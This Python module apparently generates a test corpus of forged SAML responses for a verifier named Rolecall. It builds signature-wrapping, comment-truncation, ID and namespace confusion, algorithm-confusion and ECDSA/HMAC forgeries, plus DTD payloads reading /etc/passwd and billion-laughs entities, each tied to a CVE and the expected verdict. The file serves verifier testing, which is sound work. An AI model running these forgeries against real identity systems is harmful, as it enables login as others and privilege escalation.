"""Forged messages, made from good ones as an attacker makes them: with signatures that verify wherever the attack rests on one. Each
says where it was published, what a naive reader takes from it and what Rolecall may say of it. `make` writes them all."""

import base64
import hashlib
import re

from cryptography.hazmat.primitives import hashes, hmac, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, utils
from lxml import etree

import shapes
import signers
import sources
from signers import C14N, C14N11, DIGESTS, DS, ENVELOPED, EXC, METHODS, defaults
from wrapping import hiding_places, xsw

EVIL_ROLE = "arn:aws:iam::666666666666:role/Admin"
EVIL_PAIR = f"{EVIL_ROLE},arn:aws:iam::666666666666:saml-provider/Evil"
EVIL_NAME = "admin@example.com"
FORGED = f"the forged role {EVIL_ROLE} of {EVIL_NAME}"
NOT_TRUSTED = ["wrapped", "broken", "unknown"]


class Attacks:
    """Collects attacks and has what they are made of."""

    def __init__(self, keys, out):
        self.keys, self.out, self.entries = keys, out, []
        self.xmlsec1 = signers.xmlsec1(keys)
        (out / "attacks").mkdir(parents=True, exist_ok=True)

    def add(self, name, source, text, expect, sees=FORGED, unpinned=None, why=None, key="rsa2048", roles=(EVIL_ROLE,)):
        """Writes one. `expect`: the verdicts that are right with the identity provider's key pinned, and `unpinned` without."""
        assert name not in {entry["name"] for entry in self.entries}, name
        file = f"attacks/{name}.xml"
        (self.out / file).write_bytes(signers.unmarked(text).encode("utf-8", "surrogatepass"))
        entry = {"file": file, "name": name, "source": sources.of(source), "naive": sees, "expect": expect}
        if unpinned is not None:
            entry["expect_unpinned"] = unpinned
        if why is not None:
            entry["why"] = why
        entry |= {"roles": list(roles), "keys": [f"keys/{key}.pem"]}
        self.entries.append(entry)

    def signed(self, text, *targets, **options):
        """The text with signatures by xmlsec1 on these IDs."""
        for target in targets:
            text = self.xmlsec1(text, target, defaults(**options))
        return signers.unmarked(text)

    def raw(self, text, key="rsa2048", canonical=None):
        """Fills the last empty SignatureValue with an RSA-SHA256 signature over the SignedInfo before it, whatever that says."""
        private = serialization.load_pem_private_key(self.keys.private(key).read_bytes(), None)
        if canonical is None:
            root = tree(text)
            value = [v for v in root.iter(f"{{{DS}}}SignatureValue") if not v.text][-1]
            info = [i for i in value.getparent().iter(f"{{{DS}}}SignedInfo") if i.getparent() is value.getparent()][-1]
            canonical = c14n(info)
        if isinstance(private, ec.EllipticCurvePrivateKey):
            signature = private.sign(canonical, ec.ECDSA(hashes.SHA256()))
        else:
            signature = private.sign(canonical, padding.PKCS1v15(), hashes.SHA256())
        at = text.rindex("<ds:SignatureValue></ds:SignatureValue>")
        return text[:at] + text[at:].replace("><", f">{base64.b64encode(signature).decode()}<", 1)

    def key_info(self, key="rsa2048", kind="x509"):
        return signers.key_info(self.keys, defaults(key=key, key_info=kind), "ds:")

    def signature(self, references, method=METHODS["rsa-sha256"], canonicalization=EXC, key="rsa2048", kind="x509", extra="", value=""):
        """A Signature around these references, its value still to be filled in."""
        return (
            f'<ds:Signature xmlns:ds="{DS}"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="{canonicalization}"/>'
            f'<ds:SignatureMethod Algorithm="{method}"/>{references}</ds:SignedInfo>'
            f"<ds:SignatureValue>{value}</ds:SignatureValue>{self.key_info(key, kind)}{extra}</ds:Signature>"
        )


def c14n(element):
    return etree.tostring(element, method="c14n", exclusive=True, with_comments=False)


def tree(text):
    """The parsed text; libxml2 canonicalizes nothing where a namespace name is relative, so that one is left out."""
    return etree.fromstring(re.sub(r' xmlns:void="[^"]*"', "", text).encode())


def digest_of(text, target, without_signature=True):
    """The SHA-256 digest of the element with that ID, exclusive, its own signature left out."""
    root = tree(signers.unmarked(text))
    element = root if root.get("ID") == target else root.find(f".//*[@ID='{target}']")
    if without_signature:
        for signature in element.findall(f"{{{DS}}}Signature"):
            tail = signature.tail
            previous = signature.getprevious()
            element.remove(signature)
            if tail and previous is not None:
                previous.tail = (previous.tail or "") + tail
    copy = etree.fromstring(etree.tostring(element, with_tail=False))
    return sha256(c14n(copy))


def sha256(data):
    return base64.b64encode(hashlib.sha256(data).digest()).decode()


def reference(uri, digest, transforms=(ENVELOPED, EXC), method=DIGESTS["sha256"], inside=""):
    listed = "".join(f'<ds:Transform Algorithm="{t}"/>' if "<" not in t else t for t in transforms)
    named = f' URI="{uri}"' if uri is not None else ""
    return (
        f"<ds:Reference{named}>" + (f"<ds:Transforms>{listed}</ds:Transforms>" if transforms else "")
        + f'<ds:DigestMethod Algorithm="{method}"/><ds:DigestValue>{inside}{digest}</ds:DigestValue></ds:Reference>'
    )


def signature_of(text):
    """The first Signature of a text."""
    return re.search(r"<ds:Signature .*?</ds:Signature>", text, re.S).group(0)


def unsigned(text):
    return re.sub(r"<ds:Signature .*?</ds:Signature>", "", text, flags=re.S)


def assertion_of(text):
    return re.search(r"<saml:Assertion.*</saml:Assertion>", text, re.S).group(0)


def forged(text, target=None, new_id=None):
    """The text with another name and another role; with `target`, that ID is changed too."""
    text = re.sub(r"(<saml:NameID[^>]*>)[^<]*", rf"\g<1>{EVIL_NAME}", text)
    text = re.sub(r"<saml:AttributeValue>arn:[^<]*", f"<saml:AttributeValue>{EVIL_PAIR}", text)
    return text.replace(f'ID="{target}"', f'ID="{new_id}"') if target else text


def make(keys, out):
    """Writes every attack and gives the manifest's entries."""
    a = Attacks(keys, out)
    xsw(a)
    hiding_places(a)
    differentials(a)
    comments(a)
    identifiers(a)
    namespaces(a)
    dtd(a)
    algorithms(a)
    signed_info(a)
    transforms(a)
    key_confusion(a)
    moved(a)
    encrypted(a)
    shape_of_the_message(a)
    return a.entries


def differentials(a):
    """Two parsers, or one parser asked twice."""
    good = a.signed(shapes.plain(), "_asrt")
    evil_in_place = forged(good)
    smuggled = f'<samlp:StatusDetail><ds:DigestValue xmlns:ds="{DS}">{digest_of(evil_in_place, "_asrt")}</ds:DigestValue></samlp:StatusDetail></samlp:Status>'
    a.add("digest-smuggled-in-status", "CVE-2024-45409", evil_in_place.replace("</samlp:Status>", smuggled), ["broken"])
    other = evil_in_place.replace("<ds:Signature ", f'<ds:Object xmlns:ds="{DS}"><ds:DigestValue>{digest_of(evil_in_place, "_asrt")}</ds:DigestValue></ds:Object><ds:Signature ', 1)
    a.add("digest-smuggled-before-signature", "CVE-2024-45409", other, ["broken"])

    evil_digest = digest_of(evil_in_place, "_asrt")
    real_digest = re.search("<ds:DigestValue>([^<]*)", good).group(1)
    a.add("digest-comment-first", "CVE-2025-29775", evil_in_place.replace(f"<ds:DigestValue>{real_digest}", f"<ds:DigestValue><!--{evil_digest}-->{real_digest}"), ["broken"])
    a.add("digest-comment-last", "CVE-2025-29775", evil_in_place.replace(f"{real_digest}</ds:DigestValue>", f"{real_digest}<!--{evil_digest}--></ds:DigestValue>"), ["broken"])
    a.add("digest-comment-splits", "CVE-2025-29775", good.replace(real_digest, f"{real_digest[:9]}<!--x-->{real_digest[9:]}"), NOT_TRUSTED,
          sees="a shorter digest; the assertion itself is as it was signed", roles=(), why="what SignedInfo says must not depend on who reads it")
    a.add("digest-element-inside", "CVE-2025-29775", evil_in_place.replace(f"<ds:DigestValue>{real_digest}", f"<ds:DigestValue><ds:DigestValue>{evil_digest}</ds:DigestValue>{real_digest}"), ["broken", "unknown"])
    a.add("digest-value-twice", "CVE-2025-29775", evil_in_place.replace("<ds:DigestValue>", f"<ds:DigestValue>{evil_digest}</ds:DigestValue><ds:DigestValue>"), ["broken", "unknown"])

    real = signature_of(good)
    real_info = re.search(r"<ds:SignedInfo>.*?</ds:SignedInfo>", real).group(0)
    evil_info = real_info.replace(real_digest, evil_digest)
    a.add("signed-info-twice-forged-first", "CVE-2025-29774", evil_in_place.replace(real_info, evil_info + real_info), ["broken", "wrapped"])
    a.add("signed-info-twice-forged-last", "CVE-2025-29774", evil_in_place.replace(real_info, real_info + evil_info), ["broken", "wrapped"])
    a.add("signed-info-nested", "CVE-2025-29774", evil_in_place.replace(real_info, evil_info.replace("</ds:SignedInfo>", f"{real_info}</ds:SignedInfo>")), ["broken", "wrapped", "unknown"])
    a.add("signed-info-in-object", "CVE-2019-3465", evil_in_place.replace(real_info, evil_info).replace("</ds:KeyInfo>", f"</ds:KeyInfo><ds:Object>{real_info}</ds:Object>"), ["broken"])
    a.add("signed-info-in-object-before", "CVE-2019-3465", evil_in_place.replace(real_info, f"<ds:Object>{real_info}</ds:Object>{evil_info}"), ["broken"])
    a.add("signed-info-same-twice", "CVE-2025-29774", good.replace(real_info, real_info * 2), NOT_TRUSTED, sees="one of two SignedInfo, here alike", roles=())

    evil_signature = real.replace(real_digest, evil_digest)
    a.add("signature-twice-forged-first", "CVE-2025-25292", evil_in_place.replace(real, evil_signature + real), ["broken", "wrapped"])
    a.add("signature-twice-forged-last", "CVE-2025-25292", evil_in_place.replace(real, real + evil_signature), ["broken", "wrapped"])
    quoted = evil_in_place.replace(real, evil_signature.replace("ds:", "x:").replace("xmlns:ds", "xmlns:x") + real)
    a.add("signature-twice-other-prefix", "CVE-2025-25292", quoted, ["broken", "wrapped"])
    hidden = assertion_of(good)
    a.add("incomplete-fix-wrapping", "CVE-2025-66567", evil_in_place.replace("</samlp:Status>", f"<samlp:StatusDetail>{hidden}</samlp:StatusDetail></samlp:Status>").replace('ID="_asrt"', 'ID="_asrt"', 1), NOT_TRUSTED)

    relative = forged(shapes.plain(assertion=' xmlns:void="1"'))
    void = a.raw(relative.replace("{SIGN:_asrt}", a.signature(reference("#_asrt", sha256(b"")))))
    a.add("void-canonicalization-digest", "CVE-2025-66568", void, ["broken", "unknown"], sees=f"{FORGED}, whose canonical form came out empty")
    void = relative.replace("{SIGN:_asrt}", a.signature(reference("#_asrt", digest_of(relative, "_asrt"))).replace("<ds:SignedInfo>", '<ds:SignedInfo xmlns:void="1">'))
    a.add("void-canonicalization-signed-info", "fragile-lock", a.raw(void, canonical=b""), ["broken", "unknown"], sees=f"{FORGED}: a signature over nothing is taken for one over SignedInfo")
    dotted = forged(shapes.plain(assertion=' xmlns:void="../x"'))
    a.add("void-canonicalization-php", "CVE-2025-66578", a.raw(dotted.replace("{SIGN:_asrt}", a.signature(reference("#_asrt", sha256(b""))))), ["broken", "unknown"])

    a.add("unsigned-copy-read", "CVE-2025-54419", forged(good), ["broken"], sees="the original document, read after the signed copy in it verified")
    a.add("name-shortened-by-instruction", "oneuptime-2988", good.replace("ada@example.com</saml:NameID>", "<?x ada?>@example.com</saml:NameID>"), ["broken"], sees="a name without what stands in the instruction", roles=())
    a.add("role-shortened-by-instruction", "oneuptime-2988", good.replace(":role/Team0-0", ":role/<?x Team?>0-0"), ["broken"], sees="a role without what stands in the instruction", roles=())
    a.add("go-round-trip-element", "go-round-trip", forged(good, "_asrt", "_evil").replace("<saml:Assertion ", "<saml::Assertion ", 1), [*NOT_TRUSTED, "unsigned", "refused"])
    a.add("go-round-trip-attribute", "go-round-trip", forged(good).replace('ID="_asrt"', ':ID="_asrt" ID="_evil"'), [*NOT_TRUSTED, "unsigned", "refused"])
    a.add("two-roots", "CVE-2022-39299", good + forged(unsigned(good), "_resp", "_resp2"), [*NOT_TRUSTED, "refused"], sees="the second root")
    a.add("two-roots-forged-first", "CVE-2022-39299", forged(unsigned(good), "_resp", "_resp2").replace('"_asrt"', '"_evil"') + good, [*NOT_TRUSTED, "unsigned", "refused"])
    a.add("text-after-root", "CVE-2022-39299", good + "x", [*NOT_TRUSTED, "refused"], sees="a document that is not well-formed to its end", roles=())
    a.add("element-commented-out", "regex-readers", forged(unsigned(good)).replace("<saml:Assertion ", f"<!-- {assertion_of(good)} --><saml:Assertion ", 1), ["unsigned"], sees="for a reader of plain text the signed assertion, for a parser the forged one")


def comments(a):
    """A comment or the like in text that people read. The digest does not cover comments."""
    good = a.signed(shapes.plain(name="admin@example.com.evil.example"), "_asrt")
    response = a.signed(shapes.plain(name="admin@example.com.evil.example"), "_resp")
    for name, text in (("assertion", good), ("response", response)):
        a.add(f"comment-truncates-name-{name}", "CVE-2017-11427", text.replace("example.com.evil", "example.com<!---->.evil"), ["wrapped"], sees="the name up to the comment: admin@example.com", roles=())
    place = {
        "role": ("Team0-0,", "Team0<!---->-0,"),
        "role-between-arns": (",arn:aws:iam::111122220000:saml-provider", "<!-- -->,arn:aws:iam::111122220000:saml-provider"),
        "session-name": ("<saml:AttributeValue>ada<", "<saml:AttributeValue>ad<!---->a<"),
        "audience": ("urn:amazon:webservices</saml:Audience>", "urn:amazon<!---->:webservices</saml:Audience>"),
        "context": ("PasswordProtected", "Password<!---->Protected"),
    }
    for name, (old, new) in place.items():
        assert old in good, name
        a.add(f"comment-in-{name}", "CVE-2017-11428", good.replace(old, new, 1), ["wrapped"], sees="the text up to the comment, or behind it", roles=())
    issuer = good.rindex("https://idp.example.com/metadata")
    a.add("comment-in-issuer", "CVE-2017-11429", good[:issuer] + "https://idp<!---->.example.com/metadata" + good[issuer + 32 :], ["wrapped"], sees="another issuer", roles=())
    a.add("comment-in-long-form", "CVE-2018-0489", good.replace("example.com.evil", "example.com<!-- " + "x" * 300 + " -->.evil"), ["wrapped"], sees="the name up to the comment", roles=())
    a.add("comment-twice", "CVE-2017-11427", good.replace("example.com.evil", "example<!---->.com<!---->.evil"), ["wrapped"], sees="the name up to a comment", roles=())
    with_comments = a.signed(shapes.plain(name="admin@example.com.evil.example"), "_asrt", c14n=EXC + "WithComments", transforms=[ENVELOPED, EXC + "WithComments"])
    a.add("comment-with-comments-form", "CVE-2017-11430", with_comments.replace("example.com.evil", "example.com<!---->.evil"), NOT_TRUSTED, sees="the name up to the comment", roles=(),
          why="a reference by bare ID selects no comments, so that even the form with comments does not cover this one")
    a.add("instruction-truncates-name", "CVE-2017-11427", good.replace("example.com.evil", "example.com<?x?>.evil"), ["broken"], sees="the name up to the instruction", roles=())
    a.add("element-truncates-name", "CVE-2017-11427", good.replace("example.com.evil", "example.com<x/>.evil"), ["broken"], sees="the name up to the element", roles=())
    a.add("comment-in-signed-info-method", "CVE-2025-29775", good.replace('<ds:SignatureMethod Algorithm=', '<!-- x --><ds:SignatureMethod Algorithm='), ["genuine", *NOT_TRUSTED], unpinned=["consistent", *NOT_TRUSTED], sees="nothing else", roles=(),
          why="between elements a comment hides nothing; SignedInfo is read from its canonical bytes")


def identifiers(a):
    """More than one answer to the question which element the reference means."""
    good = a.signed(shapes.plain(), "_asrt")
    signed = assertion_of(good)
    evil = forged(unsigned(signed))
    before = lambda text: good.replace("<saml:Assertion", text + "<saml:Assertion", 1)
    after = lambda text: good.replace("</saml:Assertion>", "</saml:Assertion>" + text)
    a.add("same-id-forged-first", "somorovsky-2012", before(evil), ["wrapped", "broken"])
    a.add("same-id-forged-last", "somorovsky-2012", after(evil), ["wrapped", "broken"])
    for attribute in ("Id", "id", "AssertionID", "xml:id"):
        word = attribute.replace(":", "-")
        text = evil.replace('ID="_asrt"', f'ID="_evil" {attribute}="_asrt"')
        a.add(f"id-as-{word}-first", "fragile-lock", before(text), ["wrapped", "broken"], sees=f"{FORGED}, where {attribute} is taken for the ID")
        a.add(f"id-as-{word}-last", "fragile-lock", after(text), ["wrapped", "broken"], sees=f"{FORGED}, where {attribute} is taken for the ID")
    polluted = forged(good).replace('ID="_resp"', 'ID="_evil" samlp:ID="_resp"')
    response = a.signed(shapes.plain(), "_resp")
    hidden = response.replace("<samlp:Response ", '<samlp:Response ', 1)
    wrapped = forged(unsigned(response)).replace('ID="_resp"', 'ID="_evil" samlp:ID="_resp"').replace("<samlp:Status>", f"{signature_of(response)}<samlp:Extensions>{unsigned(hidden)}</samlp:Extensions><samlp:Status>", 1)
    a.add("attribute-pollution-response", "CVE-2025-66567", wrapped, ["wrapped", "broken"], sees=f"{FORGED}: ID is one thing with a namespace and another without")
    a.add("attribute-pollution-assertion", "fragile-lock", before(evil.replace('ID="_asrt"', 'ID="_evil" saml:ID="_asrt"')), ["wrapped", "broken"])
    a.add("attribute-pollution-signed", "fragile-lock", polluted, ["broken"])
    for name, uri in (("percent", "#%5Fasrt"), ("space", "#_asrt "), ("case", "#_ASRT"), ("query", "?#_asrt"), ("no-hash", "_asrt")):
        text = shapes.plain()
        text = a.raw(text.replace("{SIGN:_asrt}", a.signature(reference(uri, digest_of(text, "_asrt")))))
        a.add(f"reference-spelled-{name}", "xmldsig-references", text, NOT_TRUSTED, sees="a reference that some resolve and others do not", roles=())
    text = forged(shapes.plain())
    spaced = before(evil.replace('ID="_asrt"', 'ID=" _asrt"'))
    a.add("id-with-space", "xmldsig-references", spaced, ["wrapped", "broken"], sees=f"{FORGED}, where the ID is trimmed")
    a.add("same-id-on-foreign-element", "xmldsig-references", good.replace("<samlp:Status>", '<samlp:Extensions><x ID="_asrt"/></samlp:Extensions><samlp:Status>', 1), ["wrapped"], sees="the element that its reader finds first", roles=())
    other = shapes.plain().replace('ID="_asrt"', 'Id="_asrt"')
    digest = sha256(c14n(etree.fromstring(standalone(signers.unmarked(other)))))
    a.add("id-in-other-spelling", "xmldsig-references", a.raw(other.replace("{SIGN:_asrt}", a.signature(reference("#_asrt", digest)))), NOT_TRUSTED, sees="an assertion whose ID only some readers find", roles=())
    no_id = evil.replace(' ID="_asrt"', "")
    a.add("no-id-forged-first", "CVE-2022-41912", before(no_id), ["wrapped"])
    a.add("id-on-signature-part", "somorovsky-2012", before(evil.replace('ID="_asrt"', 'ID="_evil"')).replace("<ds:SignatureValue>", '<ds:SignatureValue Id="_asrt">'), ["wrapped", "broken"])


def namespaces(a):
    """Names alike, namespaces not."""
    good = a.signed(shapes.plain(), "_asrt")
    evil = forged(unsigned(assertion_of(good)), "_asrt", "_evil")
    foreign = evil.replace("saml:", "f:").replace("<f:Assertion", '<f:Assertion xmlns:f="urn:oasis:names:tc:SAML:1.0:assertion"', 1)
    for place, text in (("first", good.replace("<saml:Assertion", foreign + "<saml:Assertion", 1)), ("last", good.replace("</saml:Assertion>", "</saml:Assertion>" + foreign))):
        a.add(f"foreign-assertion-{place}", "fragile-lock", text, ["wrapped"], sees=f"{FORGED}, by local name")
    a.add("foreign-assertion-in-extensions", "fragile-lock", good.replace("<samlp:Status>", f"<samlp:Extensions>{foreign}</samlp:Extensions><samlp:Status>", 1), ["wrapped"], sees=f"{FORGED}, by local name")
    attribute = f'<f:Attribute xmlns:f="urn:f" Name="{shapes.AWS}Role"><f:AttributeValue>{EVIL_PAIR}</f:AttributeValue></f:Attribute>'
    a.add("foreign-attribute-added", "fragile-lock", good.replace("<saml:AttributeStatement>", f"<saml:AttributeStatement>{attribute}"), ["broken"], sees=f"{FORGED}, by local name")
    statement = f'<saml:AttributeStatement><saml:Attribute Name="{shapes.AWS}Role"><saml:AttributeValue>{EVIL_PAIR}</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>'
    a.add("statement-outside-assertion", "somorovsky-2012", good.replace("</samlp:Status>", f"</samlp:Status>{statement}"), ["wrapped"], sees=f"{FORGED}, found anywhere in the document")
    a.add("statement-after-assertion", "somorovsky-2012", good.replace("</samlp:Response>", f"{statement}</samlp:Response>"), ["wrapped"])
    a.add("name-outside-assertion", "somorovsky-2012", good.replace("</samlp:Status>", f"</samlp:Status><saml:Subject><saml:NameID>{EVIL_NAME}</saml:NameID></saml:Subject>"), ["wrapped"], sees=f"the name {EVIL_NAME}, found anywhere in the document", roles=())
    for name, hidden in (("statement", statement), ("assertion", forged(unsigned(assertion_of(good)), "_asrt", "_evil"))):
        a.add(f"{name}-in-object", "somorovsky-2012", good.replace("</ds:KeyInfo>", f"</ds:KeyInfo><ds:Object>{hidden}</ds:Object>"), ["wrapped"], sees=f"{FORGED}: what stands in the signature is left out of the digest")
        a.add(f"{name}-in-key-info", "somorovsky-2012", good.replace("<ds:X509Data>", f"{hidden}<ds:X509Data>"), NOT_TRUSTED, sees=f"{FORGED}: what stands in the signature is left out of the digest")
        a.add(f"{name}-in-extensions", "somorovsky-2012", good.replace("<samlp:Status>", f"<samlp:Extensions>{hidden}</samlp:Extensions><samlp:Status>", 1), ["wrapped"])
    unsigned_good = forged(unsigned(good))
    real = signature_of(good)
    for name, uri in (("no-hash", "http://www.w3.org/2000/09/xmldsig"), ("https", "https://www.w3.org/2000/09/xmldsig#"), ("xmldsig11", "http://www.w3.org/2009/xmldsig11#"), ("empty", "")):
        if uri:
            fake = real.replace(DS + '"', uri + '"', 1)
        else:
            fake = real.replace(f' xmlns:ds="{DS}"', "").replace("ds:", "")
        a.add(f"foreign-signature-{name}", "fragile-lock", unsigned_good.replace("<saml:Subject>", f"{fake}<saml:Subject>", 1), ["unsigned"], sees=f"{FORGED}, signed by a Signature of another namespace")
    rebound = good.replace("<ds:SignedInfo>", '<ds:SignedInfo xmlns:ds="urn:x">', 1)
    a.add("signed-info-rebound", "fragile-lock", rebound, ["broken", "unknown"], sees="a SignedInfo that is none", roles=())
    root = forged(unsigned(good)).replace(shapes.P, "urn:oasis:names:tc:SAML:2.0:protocolx")
    a.add("foreign-root", "fragile-lock", root.replace("</samlp:Status>", f"</samlp:Status>{assertion_of(good)}").replace('ID="_asrt"', 'ID="_evil"', 0), [*NOT_TRUSTED, "refused"])


def dtd(a):
    """Document types. Refused before anything is looked at."""
    good = a.signed(shapes.plain(), "_asrt")
    evil = forged(good)
    subset = {
        "doctype-parser-differential": ("CVE-2025-25291", '<!DOCTYPE x [ <!ENTITY % p "a"> <!-- --> ]>', good),
        "doctype-attlist-id": ("fragile-lock", '<!DOCTYPE samlp:Response [ <!ATTLIST saml:Assertion Id ID #IMPLIED> ]>', evil),
        "doctype-attlist-default-namespace": ("fragile-lock", f'<!DOCTYPE samlp:Response [ <!ATTLIST Signature xmlns CDATA #FIXED "{DS}"> ]>', evil),
        "doctype-attlist-default-name": ("fragile-lock", '<!DOCTYPE samlp:Response [ <!ATTLIST saml:NameID Format CDATA "x"> ]>', good),
        "doctype-entity-in-name": ("CVE-2025-23369", '<!DOCTYPE samlp:Response [ <!ENTITY n "admin"> ]>', good.replace("ada@", "&n;@")),
        "doctype-entity-in-id": ("CVE-2025-23369", '<!DOCTYPE samlp:Response [ <!ENTITY i "_asrt"> ]>', evil.replace('ID="_asrt"', 'ID="&i;"')),
        "doctype-external": ("xxe", '<!DOCTYPE samlp:Response SYSTEM "http://127.0.0.1:9/x.dtd">', good),
        "doctype-xxe": ("xxe", '<!DOCTYPE samlp:Response [ <!ENTITY x SYSTEM "file:///etc/passwd"> ]>', good.replace("ada@", "&x;@")),
        "doctype-laughs": ("xxe", '<!DOCTYPE r [ <!ENTITY a "aaaaaaaaaa"> <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"> <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"> ]>', good.replace("ada@", "&c;@")),
        "doctype-empty": ("go-round-trip", "<!DOCTYPE samlp:Response>", good),
    }
    for name, (source, declaration, text) in subset.items():
        a.add(name, source, declaration + text, ["refused"], sees="what the document type declares", roles=(EVIL_ROLE,) if text is evil else ())
    a.add("entity-undeclared", "xxe", good.replace("ada@", "&n;@"), ["refused"], sees="an entity that nobody declared", roles=())


def algorithms(a):
    """Algorithms that are none, or not what they are taken for."""
    text = forged(shapes.plain())
    digest = digest_of(text, "_asrt")
    base = lambda **o: text.replace("{SIGN:_asrt}", a.signature(reference("#_asrt", digest), **o))
    for name, uri in (
        ("none", "http://www.w3.org/2001/04/xmldsig-more#none"), ("empty", ""), ("sha256", DIGESTS["sha256"]), ("rsa-md5", "http://www.w3.org/2001/04/xmldsig-more#rsa-md5"),
        ("dsa", DS + "dsa-sha1"), ("made-up", "urn:rsa-sha256"), ("rsa-sha256-space", METHODS["rsa-sha256"] + " "), ("rsa-ripemd160", "http://www.w3.org/2001/04/xmldsig-more#rsa-ripemd160"),
    ):
        a.add(f"method-{name}", "CVE-2022-21449" if name == "none" else "algorithm-confusion", a.raw(base(method=uri)), ["unknown", "broken"])
    certificate = a.keys.certificate("rsa2048").read_bytes()
    for name, secret in (("pem", certificate), ("der", base64.b64decode(a.keys.certificate_text("rsa2048"))), ("empty", b"")):
        hmac_text = base(method="http://www.w3.org/2001/04/xmldsig-more#hmac-sha256")
        info = etree.fromstring(hmac_text.encode()).find(f".//{{{DS}}}SignedInfo")
        mac = hmac.HMAC(secret, hashes.SHA256())
        mac.update(c14n(info))
        a.add(f"hmac-with-{name}", "hmac-confusion", hmac_text.replace("<ds:SignatureValue>", f"<ds:SignatureValue>{base64.b64encode(mac.finalize()).decode()}"), ["unknown", "broken"], sees=f"{FORGED}, where a public key serves as shared secret")
    for length in (0, 8):
        truncated = base(method=DS + "hmac-sha1").replace("hmac-sha1\"/>", f'hmac-sha1"><ds:HMACOutputLength>{length}</ds:HMACOutputLength></ds:SignatureMethod>')
        value = "" if length == 0 else "AA=="
        a.add(f"hmac-truncated-{length}", "CVE-2009-0217", truncated.replace("<ds:SignatureValue>", f"<ds:SignatureValue>{value}"), ["unknown", "broken"])
    for name, uri in (("md5", "http://www.w3.org/2001/04/xmldsig-more#md5"), ("empty", ""), ("unknown", "urn:x")):
        a.add(f"digest-method-{name}", "algorithm-confusion", a.raw(text.replace("{SIGN:_asrt}", a.signature(reference("#_asrt", digest, method=uri)))), ["unknown", "broken"])
    for name, uri in (("xslt", "http://www.w3.org/TR/1999/REC-xslt-19991116"), ("minimal", "http://www.w3.org/2000/09/xmldsig#minimal"), ("empty", ""), ("c14n20", "http://www.w3.org/2010/xml-c14n2")):
        a.add(f"canonicalization-{name}", "algorithm-confusion", a.raw(base(canonicalization=uri)), ["unknown", "broken"])
    elliptic = forged(a.signed(shapes.plain(), "_asrt", key="p256", method="ecdsa-sha256"))
    good = a.signed(shapes.plain(), "_asrt", key="p256", method="ecdsa-sha256")
    value = re.search("<ds:SignatureValue>([^<]*)", good).group(1)
    point = base64.b64decode(value)
    half = len(point) // 2
    der = utils.encode_dss_signature(int.from_bytes(point[:half], "big"), int.from_bytes(point[half:], "big"))
    for name, new in (
        ("der", der), ("zero", bytes(64)), ("empty", b""), ("truncated", point[:-1]), ("long", point + b"\0"), ("half", point[:half]), ("swapped", point[half:] + point[:half]),
        ("order", bytes.fromhex("FFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551") * 2),
    ):
        source = "CVE-2022-21449" if name in ("zero", "order") else "ecdsa-encoding"
        changed = (elliptic if name in ("zero", "order") else good).replace(value, base64.b64encode(new).decode())
        a.add(f"ecdsa-{name}", source, changed, ["broken"], sees="a signature in a form that XML Signature does not have", key="p256", roles=(EVIL_ROLE,) if changed is not good and name in ("zero", "order") else ())
    rsa = a.signed(shapes.plain(), "_asrt")
    value = re.search("<ds:SignatureValue>([^<]*)", rsa).group(1)
    whole = base64.b64decode(value)
    for name, new in (("truncated", whole[:-1]), ("padded", b"\0" + whole), ("empty", b""), ("one", b"\0" * 255 + b"\1")):
        a.add(f"rsa-{name}", "rsa-encoding", rsa.replace(value, base64.b64encode(new).decode()), ["broken"], sees="a signature of another length than its key", roles=())
    a.add("rsa-not-base64", "rsa-encoding", rsa.replace(value, value[:-4] + "!!=="), ["broken"], sees="what some decoders skip", roles=())
    a.add("ecdsa-method-rsa-key", "algorithm-confusion", rsa.replace("xmldsig-more#rsa-sha256", "xmldsig-more#ecdsa-sha256"), ["broken", "unknown"], sees="a key of another kind than its method", roles=())


def signed_info(a):
    """SignedInfo that signs nothing, or more than one thing; all really signed by the identity provider's key."""
    text = forged(shapes.plain())
    digest = digest_of(text, "_asrt")
    sign = lambda references, **o: a.raw(text.replace("{SIGN:_asrt}", a.signature(references, **o)))
    a.add("no-reference", "empty-signed-info", sign(""), NOT_TRUSTED, sees=f"{FORGED}: all none of its references verify")
    a.add("reference-without-uri", "empty-signed-info", sign(reference(None, digest)), NOT_TRUSTED)
    a.add("two-references", "multiple-references", sign(reference("#_asrt", digest) * 2), NOT_TRUSTED, sees="one of two references")
    a.add("two-references-one-wrong", "goxmldsig-references", sign(reference("#_asrt", digest) + reference("#_resp", sha256(b"x"))), NOT_TRUSTED, sees="the reference that verifies")
    a.add("two-references-wrong-first", "goxmldsig-references", sign(reference("#_asrt", sha256(b"x")) + reference("#_asrt", digest)), NOT_TRUSTED, sees="the reference that verifies")
    a.add("reference-to-object", "empty-signed-info", a.raw(text.replace("{SIGN:_asrt}", a.signature(reference("#o", sha256(f'<ds:Object xmlns:ds="{DS}" Id="o">x</ds:Object>'.encode()), (EXC,)), extra='<ds:Object Id="o">x</ds:Object>'))), NOT_TRUSTED,
          sees=f"{FORGED}, though only an Object of the signature is signed")
    a.add("many-references", "reference-flood", sign(reference("#_asrt", digest) * 300), NOT_TRUSTED, sees="work without end")
    a.add("manifest", "xmldsig-manifest", a.raw(manifest(a, text)), NOT_TRUSTED, sees=f"{FORGED}: what a manifest lists is not checked by core validation")
    issuer = '<saml:Issuer ID="_iss">https://idp.example.com/metadata</saml:Issuer>'
    partial = text.replace("<saml:Issuer>https://idp.example.com/metadata</saml:Issuer>{SIGN:_asrt}", issuer + "{SIGN:_asrt}")
    part_digest = sha256(f'<saml:Issuer xmlns:saml="{shapes.A}" ID="_iss">https://idp.example.com/metadata</saml:Issuer>'.encode())
    a.add("only-issuer-signed", "partial-signature", a.raw(partial.replace("{SIGN:_asrt}", a.signature(reference("#_iss", part_digest)))), ["wrapped"], sees=f"{FORGED}, though only the issuer's name is signed")
    whole = shapes.plain()
    root = etree.fromstring(signers.unmarked(whole).encode())
    a.add("empty-uri-in-assertion", "reference-not-parent", a.raw(whole.replace("{SIGN:_asrt}", a.signature(reference("", sha256(c14n(root)))))), ["wrapped", "unknown"], roles=(),
          sees="an assertion's signature that is one over the whole document")
    a.add("response-id-in-assertion", "reference-not-parent", a.raw(whole.replace("{SIGN:_asrt}", a.signature(reference("#_resp", sha256(c14n(root)))))), ["wrapped"], roles=(),
          sees="an assertion's signature that is one over the response")
